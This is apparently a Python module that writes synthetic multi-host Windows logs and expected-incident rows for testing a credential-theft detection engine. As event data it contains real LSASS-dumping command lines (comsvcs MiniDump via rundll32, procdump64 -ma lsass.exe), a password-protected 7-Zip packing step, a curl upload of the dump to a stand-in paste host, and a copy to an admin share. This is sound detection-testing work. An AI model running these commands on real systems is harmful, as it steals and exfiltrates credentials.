"""Multi-step credential thefts on several hosts for the incident engine (sample-logs/incidents/).

Kept apart from scenarios.py: each story is tool start -> LSASS access -> dump written -> dump
packed, copied or sent, with benign activity around it. The incidents each log must give are
listed in incidents/expected-incidents.csv (written here, checked by IncidentSampleLogsTest).
"""
import datetime

from .benign import activity
from .scenarios import (ACCESS_TP, CAR_PROCDUMP, CAR_PROCDUMP_ACCESS, CAR_TASKMGR, DBGCORE, DBGHELP, K32, KB, NT,
                        PACK, SPLUNK_PROCDUMP, frames, minidump_trace, nm, tp)
from . import writers
from .model import Host

# file, host, start, story; the expected incidents of each story are returned by it.
PLAN = [
    ("incidents/otrf-flat_WKS-DEV-12_2024-03-18.json", "WKS-DEV-12", "2024-03-18 08:01:10", "comsvcs_packed_and_sent"),
    ("incidents/otrf-flat_WKS-FIN-07_2024-03-18.json", "WKS-FIN-07", "2024-03-18 09:12:40", "procdump_copied_to_share"),
    ("incidents/otrf-flat_SRV-FILE-01_2024-03-18.json", "SRV-FILE-01", "2024-03-18 09:40:05", "procdump_same_tool_on_server"),
]
HEADER = "file,host,outcome,min_score,max_score,campaign,must_mention,note"


def comsvcs_packed_and_sent(h):
    """j.ortega's cmd.exe runs comsvcs MiniDump on lsass, 7-Zip packs the dump two minutes later, curl sends it."""
    activity(h, 90)
    cmd = h.spawn("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", h.explorer, elevated=True, cwd="C:\\temp\\")
    rd = h.spawn("C:\\Windows\\System32\\rundll32.exe",
                 "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %d C:\\temp\\out.dmp full" % h.lsass.pid, cmd,
                 cwd="C:\\temp\\", expect=[tp(PACK + "comsvcs-minidump")])
    h.load(rd, "C:\\Windows\\System32\\comsvcs.dll")
    h.access(rd, h.lsass, 0x1FFFFF, frames(h, NT, KB, DBGCORE, "C:\\Windows\\System32\\comsvcs.dll", "C:\\Windows\\System32\\rundll32.exe", K32, NT),
             ACCESS_TP + [nm(CAR_PROCDUMP_ACCESS, "rundll32/comsvcs, no procdump"), tp(PACK + "comsvcs-minidump")])
    h.file(rd, "C:\\temp\\out.dmp")
    h.terminate(rd)
    activity(h, 12)
    h.now += datetime.timedelta(minutes=2)
    sz = h.spawn("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pInfected C:\\temp\\out.7z C:\\temp\\out.dmp", cmd, cwd="C:\\temp\\",
                 pe=("23.01", "7-Zip Console", "7-Zip", "Igor Pavlov", "7z.exe"))
    h.file(sz, "C:\\temp\\out.7z")
    h.terminate(sz)
    h.now += datetime.timedelta(minutes=1)
    curl = h.spawn("C:\\Windows\\System32\\curl.exe", "curl.exe -s -T C:\\temp\\out.7z https://paste.example.net/u/7f3a", cmd, cwd="C:\\temp\\")
    h.terminate(curl)
    h.terminate(cmd)
    activity(h, 90)
    return [("dump", 50, 100, "", "packed the dump;sent the dump", "comsvcs MiniDump, 7z packs out.dmp, curl sends out.7z")]


def _procdump(h, parent, path, dump):
    pd = h.spawn(path, "procdump64.exe -accepteula -ma lsass.exe %s" % dump, parent, cwd="C:\\Tools\\",
                 pe=("11.0", "Sysinternals process dump utility", "ProcDump", "Sysinternals - www.sysinternals.com", "procdump"),
                 expect=[tp(CAR_PROCDUMP), tp(SPLUNK_PROCDUMP), tp(PACK + "procdump-lsass")])
    h.access(pd, h.lsass, 0x1FFFFF, minidump_trace(h, path, DBGHELP), [tp(CAR_PROCDUMP_ACCESS)] + ACCESS_TP)
    h.file(pd, dump, [nm(CAR_TASKMGR, "procdump64.exe, not taskmgr.exe"), tp(PACK + "lsass-dump-file")])
    h.terminate(pd)
    return pd


def procdump_copied_to_share(h):
    """m.keller's session: procdump64 dumps lsass to acme-lsass.dmp, cmd copies it to the file server's share."""
    activity(h, 90)
    cmd = h.spawn("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", h.explorer, elevated=True, cwd="C:\\Tools\\")
    _procdump(h, cmd, "C:\\Tools\\procdump64.exe", "C:\\Windows\\Temp\\acme-lsass.dmp")
    h.now += datetime.timedelta(seconds=40)
    cp = h.spawn("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c copy C:\\Windows\\Temp\\acme-lsass.dmp \\\\SRV-FILE-01\\drop$\\", cmd)
    h.terminate(cp)
    h.terminate(cmd)
    activity(h, 90)
    return [("dump", 50, 100, "yes", "copied the dump", "procdump64 then copy to \\\\SRV-FILE-01\\drop$")]


def procdump_same_tool_on_server(h):
    """The same procdump64 (same hash) and dump name on the file server half an hour later: a campaign."""
    activity(h, 90)
    cmd = h.spawn("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", h.explorer, elevated=True, cwd="C:\\Tools\\")
    _procdump(h, cmd, "C:\\Tools\\procdump64.exe", "C:\\Windows\\Temp\\acme-lsass.dmp")
    h.terminate(cmd)
    activity(h, 90)
    return [("dump", 50, 100, "yes", "", "same tool hash and dump file name as WKS-FIN-07")]


def write_all(write, expected_rows):
    """Writes the logs and incidents/expected-incidents.csv; returns the expected-hits rows of the logs."""
    hits = []
    lines = [HEADER]
    for path, host, start, story in PLAN:
        h = Host.named(host, start)
        incidents = globals()[story](h)
        write(path, writers.otrf_flat(h.events))
        hits += expected_rows(path, h.events)
        for outcome, lo, hi, campaign, mention, note in incidents:
            lines.append(",".join([path, h.fqdn, outcome, str(lo), str(hi), campaign, mention, note.replace(",", ";")]))
    write("incidents/expected-incidents.csv", ("\n".join(lines) + "\n").encode("utf-8"))
    return hits
